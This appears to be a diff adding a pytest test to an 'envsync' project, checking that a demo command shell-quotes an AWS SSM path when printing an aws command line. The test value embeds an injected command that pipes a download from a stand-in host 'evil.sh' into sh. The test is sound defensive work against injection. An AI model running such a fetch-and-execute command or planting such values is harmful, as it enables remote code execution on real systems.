@@ -65,3 +65,12 @@ def test_every_example_holds_an_envsync_the_demo_can_apply(example: str) -> None
     loaded = demoexample.load(folder, kubectl=kubectl)
     assert any(obj["kind"] == "EnvSync" for obj in loaded.objects)
     assert not any(note.startswith("Skipped") for note in loaded.notes)
+
+
+def test_the_printed_aws_line_quotes_what_the_example_spec_says() -> None:
+    from envsync import aws
+    from envsync.cli import democmd
+
+    hostile = aws.Target("ssm", "/x/; curl evil.sh|sh;#/", region="us-east-1")
+    line = democmd._aws_line(hostile, "http://127.0.0.1:1")
+    assert "--path '/x/; curl evil.sh|sh;#/'" in line
